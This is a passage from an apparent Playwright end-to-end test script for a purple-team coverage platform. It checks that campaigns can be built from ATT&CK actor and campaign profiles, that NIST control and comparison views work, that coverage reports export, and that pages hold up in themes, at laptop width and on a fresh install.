  await admin.getByRole("button", { name: "Build campaign" }).click();
  const ctests = admin.getByRole("table", { name: "Campaign tests" }).locator("tbody tr");
  await ctests.first().waitFor();
  check((await ctests.count()) > 20 && /Emulate APT29/.test(await admin.getByRole("heading", { level: 1 }).textContent()), `a campaign built from APT29 plans its techniques as tests (${await ctests.count()})`);
  await admin.getByRole("button", { name: "Start campaign" }).click();
  await admin.getByRole("button", { name: "Complete" }).waitFor();
  // Order and dependencies: the third test moves up, and the (new) third waits for the first.
  step = "campaign order";
  {
    await admin.getByRole("button", { name: "Order", exact: true }).click();
    const plan = admin.getByRole("table", { name: "Order and dependencies" }).locator("tbody tr");
    const third = (await plan.nth(2).locator("td").nth(1).textContent()).trim();
    const second = (await plan.nth(1).locator("td").nth(1).textContent()).trim();
    await plan.nth(2).getByRole("button", { name: / up$/ }).click();
    await plan.nth(2).getByRole("combobox").selectOption({ index: 1 });
    await admin.getByRole("button", { name: "Save order" }).click();
    await admin.getByRole("table", { name: "Order and dependencies" }).waitFor({ state: "detached" });
    const rows = admin.getByRole("table", { name: "Campaign tests" }).locator("tbody tr");
    await admin.waitForFunction((t) => document.querySelectorAll("table[aria-label='Campaign tests'] tbody tr")[1]?.textContent.includes(t), third);
    const moved = (await rows.nth(2).textContent()) ?? "";
    const waiting = await admin.locator("div.rounded-lg", { hasText: "on an earlier test" }).first().textContent();
    check(moved.includes(second) && /#1/.test(moved) && /Waiting\s*1\s*on an earlier test/.test(waiting),
      `a lead reorders a campaign's tests and makes one wait for the first (row 3: ${moved.slice(0, 60)}; ${waiting})`);
  }
  step = "campaign from actor";
  await shot(admin, "campaign");
  await admin.goto(BASE + "/campaigns");
  await admin.getByRole("table", { name: "Campaigns" }).getByText("Emulate APT29").first().waitFor();
  step = "campaign by hand";
  await admin.getByRole("button", { name: "New campaign" }).click();
  await admin.getByLabel("Name").fill("E2E purple week");
  await admin.getByLabel("Description").fill("Hand-made: the tests of the quarter's purple week.");
  await admin.getByLabel("Recurrence").selectOption("monthly");
  await admin.getByLabel("Starts").fill("2026-12-07");
  await admin.getByRole("button", { name: "Create campaign" }).click();
  await admin.getByRole("heading", { level: 1, name: /E2E purple week/ }).waitFor();
  check(/\/campaigns\/[0-9a-f-]{36}$/.test(admin.url()), "a lead creates a hand-made campaign");
  const starts = admin.locator("dt", { hasText: /^Starts$/ }).locator("xpath=following-sibling::dd[1]");
  check((await starts.textContent()) !== "—", `the new campaign has its start date (${await starts.textContent()})`);
  await admin.getByRole("button", { name: "Edit", exact: true }).click();
  await admin.getByLabel("Name").fill("E2E purple week (December)");
  await admin.getByLabel("Recurrence").selectOption("quarterly");
  // Emptying the date field removes the date (the PATCH sends it as null).
  await admin.getByLabel("Starts").fill("");
  await admin.getByRole("button", { name: "Save changes" }).click();
  await admin.getByRole("heading", { level: 1, name: /E2E purple week \(December\)/ }).waitFor();
  check(await admin.getByText("Quarterly", { exact: true }).isVisible(), "editing a campaign saves its name and recurrence");
  await admin.reload();
  await admin.getByRole("heading", { level: 1, name: /E2E purple week \(December\)/ }).waitFor();
  check((await starts.textContent()) === "—", `a campaign's start date, once set, can be cleared from the edit form (${await starts.textContent()})`);
  await admin.getByRole("button", { name: "Delete", exact: true }).click();
  await admin.getByRole("alertdialog", { name: "Delete campaign" }).getByRole("button", { name: "Delete campaign" }).click();
  await admin.waitForURL(/\/campaigns$/);
  await admin.getByRole("table", { name: "Campaigns" }).getByText("Emulate APT29").first().waitFor();
  check(!(await admin.getByText("E2E purple week").count()), "a deleted campaign leaves the list");
  step = "campaign from profile";
  await admin.getByRole("button", { name: "Build from a campaign profile" }).click();
  await admin.getByLabel("Find a profile").fill("SolarWinds");
  const profile = admin.getByLabel("Campaign profile");
  // Wait for the server's answer to the search, not the unfiltered list shown before
  // it: every profile offered then matches (the screenshot once caught "Loading…").
  await admin.waitForFunction((sel) => {
    const opts = [...sel.options].slice(1);
    return /^Pick one of \d+$/.test(sel.options[0]?.textContent ?? "") && opts.length > 0 && opts.length < 20 && opts.some((o) => /C0024/.test(o.textContent));
  }, await profile.elementHandle());
  await profile.selectOption({ label: await profile.locator("option", { hasText: "C0024" }).textContent() });
  const picked = await profile.evaluate((sel) => sel.options[sel.selectedIndex]?.textContent ?? "");
  check(/SolarWinds.*C0024/.test(picked), `the profile search narrows the list and the picked profile stays picked (${picked})`);
  await shot(admin, "campaign-from-profile");
  await admin.getByRole("button", { name: "Build campaign" }).click();
  await admin.getByRole("heading", { level: 1, name: /SolarWinds Compromise/ }).waitFor();
  const ptests = await admin.getByRole("table", { name: "Campaign tests" }).locator("tbody tr").count();
  check(ptests > 10, `a campaign built from the imported ATT&CK campaign C0024 plans its techniques as tests (${ptests})`);
  await admin.goto(BASE + "/campaigns");
  await admin.getByRole("table", { name: "Campaigns" }).getByText(/SolarWinds Compromise/).first().waitFor();
  await shot(admin, "campaigns");
  // The tests list, now with the campaigns' drafts, paged; the validated test under its state.
  await admin.goto(BASE + "/tests");
  await admin.getByRole("button", { name: "Next page" }).waitFor();
  check(/^[1-9]\d{2,} tests$/.test(await admin.getByText(/^\d[\d,]* tests$/).textContent()), "the tests list counts the campaigns' tests");
  await shot(admin, "tests");
  await admin.getByLabel("State").selectOption("validated");
  await admin.getByRole("link", { name: "E2E PowerShell download cradle" }).first().waitFor();
  step = "actors compare";
  await admin.goto(BASE + "/actors?compare=G0016,G0007");
  await admin.getByTestId("compared-actor").nth(1).waitFor();
  check((await admin.getByRole("table", { name: "Compared techniques" }).locator("tbody tr").count()) > 50, "two actors compare side by side");
  await shot(admin, "actors-compare");
  step = "compliance";
  await admin.goto(BASE + "/compliance");
  await admin.getByText("NIST SP 800-53").first().waitFor();
  const controls = admin.getByRole("table", { name: "Controls" }).locator("tbody tr");
  await controls.first().waitFor();
  const allControls = await controls.count();
  check(allControls > 50, `NIST 800-53 controls are listed with their coverage (${allControls})`);
  await shot(admin, "compliance");
  // By now the test and the campaigns touch most controls' techniques: the partial ones.
  await admin.getByLabel("Control status").selectOption("partial");
  await admin.waitForFunction(() => {
    const rows = [...document.querySelectorAll("table[aria-label=Controls] tbody tr")];
    return rows.length > 0 && rows.every((r) => /Partial/.test(r.textContent));
  });
  const partial = await controls.count();
  const counted = parseInt(await admin.getByText(/^\d+ controls$/).textContent(), 10);
  check(partial > 0 && partial === counted, `the status filter keeps the partial controls, counted by the server (${partial} of ${allControls})`);
  check(/status=partial/.test(admin.url()), "the status filter stays in the address");
  step = "comparison";
  await admin.goto(BASE + "/comparison");
  await admin.getByRole("button", { name: "Take a snapshot now" }).click();
  await admin.getByText("Techniques that changed").waitFor();
  const improved = await admin.getByRole("tab", { name: /Improved/ }).textContent();
  check(/Improved [1-9]/.test(improved), `the comparison shows the techniques the test and the campaign moved (${improved})`);
  await shot(admin, "comparison");
  await admin.goto(BASE + "/");
  await admin.locator(".recharts-area-curve").first().waitFor();
  await admin.getByText(/current, with sub-techniques/).waitFor();
  await shot(admin, "dashboard");

  // --- 7. Reports: an export chosen on the page, watched until it finishes, downloaded.
  step = "reports";
  {
    const p = await newPage();
    await signIn(p, "viewer");
    await p.goto(BASE + "/reports");
    const offered = p.getByRole("radiogroup", { name: "Exporter" }).locator("label");
    await offered.first().waitFor();
    check((await offered.count()) === 3, `a viewer is offered the server's three exporters (${await offered.count()})`);
    await p.locator("label", { hasText: "Coverage table" }).click();
    await p.getByLabel("Scope").selectOption("tactic");
    await p.getByLabel(/^Tactic/).selectOption("TA0002");
    await p.getByRole("button", { name: "Run export" }).click();
    const run = p.getByTestId("live-export");
    await run.getByText("succeeded").waitFor({ timeout: 60_000 });
    check(/Execution/.test(await run.textContent()), "the export names its scope (the Execution tactic)");
    const [dl] = await Promise.all([p.waitForEvent("download"), run.getByRole("link", { name: /^Download / }).click()]);
    const csv = readFileSync(await dl.path(), "utf8").trim().split("\n");
    check(/technique/i.test(csv[0]) && csv.length > 10 && csv.slice(1).some((l) => l.includes("T1059")), `a viewer downloads the CSV of the Execution tactic (${csv.length - 1} rows, T1059 among them)`);
    await p.getByRole("list", { name: "Recent exports" }).getByText("Coverage table").first().waitFor();
    await p.locator("label", { hasText: "ATT&CK Navigator layer" }).click();
    await p.getByRole("button", { name: "Run export" }).click();
    await p.getByTestId("live-export").first().getByRole("link", { name: /^Download .*\.json$/ }).waitFor({ timeout: 60_000 });
    check(true, "a Navigator layer of the organisation exports from the page");
    await shot(p, "reports");
    await p.context().close();
  }
  // The matrix and the executive dashboard again, with the tests and campaigns in.
  await admin.goto(BASE + "/matrix");
  await admin.locator('[data-technique="T1059"] button').first().waitFor();
  // T1059 has no test of its own; T1059.001's validated test alerted: the parent rolls
  // up to covered, as its score rolls up (docs/SCORING.md), instead of "Not tested".
  const parentCell = await admin.locator('[data-technique="T1059"] button').first().getAttribute("title");
  check(/: Covered ·/.test(parentCell), `a parent tested through its sub-techniques shows their status (${parentCell})`);
  await shot(admin, "matrix");
  await admin.goto(BASE + "/executive");
  await admin.locator(".recharts-bar-rectangle").first().waitFor();
  await shot(admin, "executive");
  // Light theme.
  await admin.getByRole("button", { name: "Switch to light theme" }).click();
  check(await admin.evaluate(() => !document.documentElement.classList.contains("dark")), "the theme switch turns the light theme on");
  await admin.goto(BASE + "/matrix");
  await admin.locator("[data-testid=matrix] [data-technique]").first().waitFor();
  await shot(admin, "matrix-light");
  await admin.goto(BASE + "/");
  await admin.locator(".recharts-area-curve").first().waitFor();
  await shot(admin, "dashboard-light");
  await admin.goto(BASE + "/actors?actor=G0016");
  const nextItems = admin.getByRole("list", { name: "What to test next" }).locator(":scope > li");
  await nextItems.first().waitFor();
  // The APT29 campaign made draft tests of most of its techniques: those are under way,
  // so what to test next starts with the techniques nobody has started.
  const firstNext = await nextItems.first().textContent();
  check(!/In progress/.test(firstNext), `what to test next puts techniques already in progress last (first: ${firstNext.slice(0, 60)})`);
  await shot(admin, "actors-light");
  await admin.goto(BASE + "/compliance");
  await admin.getByRole("table", { name: "Controls" }).locator("tbody tr").first().waitFor();
  await shot(admin, "compliance-light");

  // --- 8. A 1280-px laptop: the main pages fit, in the light theme the admin chose.
  step = "1280 px";
  {
    await admin.setViewportSize({ width: 1280, height: 800 });
    for (const path of ["/", "/executive", "/matrix", "/tests", "/catalog/templates", "/catalog/rules", "/campaigns", "/actors?actor=G0016",
      "/compliance", "/comparison", "/reports", "/system/users", "/system/imports", "/system/audit", "/system/scoring", "/system/jobs", "/techniques/T1059.001"]) {
      step = `1280 px ${path}`;
      await admin.goto(BASE + path);
      await admin.getByRole("heading", { level: 1 }).first().waitFor();
      await checkPage(admin, `1280 px ${path}`);
    }
    await admin.goto(BASE + "/matrix");
    await admin.locator('[data-technique="T1059"] button').first().waitFor();
    await shot(admin, "matrix-1280-light");
    await admin.setViewportSize({ width: 1440, height: 900 });
  }

  // --- 9. A fresh install with nothing imported: every page shows an empty state, no error.
  if (process.env.AEGIS_EMPTY_URL) {
    step = "fresh install";
    const EMPTY = process.env.AEGIS_EMPTY_URL;
    const p = await newPage();
    await p.goto(EMPTY + "/login");
    await p.getByLabel("Username").fill("e2e_fresh");
    await p.getByLabel("Password").fill(FIRST_PASSWORD);
    await p.getByRole("button", { name: "Sign in" }).click();
    await p.getByLabel("Current password").fill(FIRST_PASSWORD);
    await p.locator("input[name=new_password]").fill(NEW_PASSWORD);
    await p.getByLabel("New password again").fill(NEW_PASSWORD);
    await p.getByRole("button", { name: "Change password" }).click();
    await p.getByRole("navigation", { name: "Main" }).waitFor();
    const pages = ["/", "/executive", "/matrix", "/tests", "/catalog/templates", "/catalog/rules", "/campaigns", "/actors", "/compliance",
      "/comparison", "/reports", "/system/users", "/system/imports", "/system/reviews", "/system/audit"];
    for (const path of pages) {
      step = `fresh install ${path}`;
      await p.goto(EMPTY + path);
      await p.getByRole("heading", { level: 1 }).first().waitFor();
      await p.waitForLoadState("networkidle");
      await p.locator("[aria-label=Loading], [role=status]:has-text('Loading')").first().waitFor({ state: "detached", timeout: 10_000 }).catch(() => {});
      const alerts = await p.getByRole("alert").allTextContents();
      check(alerts.length === 0, `${path} on a fresh install shows no error (${alerts.join(" | ")})`);
      const name = path === "/" ? "dashboard" : path.slice(1).replaceAll("/", "-");
      if (["/", "/matrix", "/actors", "/compliance"].includes(path)) await shot(p, `fresh-${name}`);
      else await checkPage(p, `fresh ${path}`);
    }
    await p.context().close();
  }

  check(contrastChecked > 40 && lowContrastFound.length === 0,
    `every text of the ${contrastChecked} pages checked, dark and light, meets WCAG AA contrast (${[...new Set(lowContrastFound)].slice(0, 20).join(" | ")})`);
  check(errors.length === 0, `no console errors (${errors.join(" | ")})`);
} catch (e) {
  console.error(`e2e: ${e.message}`);
  for (const err of errors) console.error(err);
  process.exitCode = 1;
} finally {
  await browser.close();
  if (REPORT) writeFileSync(REPORT, JSON.stringify(report, null, 2));
  console.log(`e2e: ${report.checks.length} checks passed${report.matrix ? `; matrix ${JSON.stringify(report.matrix)}` : ""}`);
}
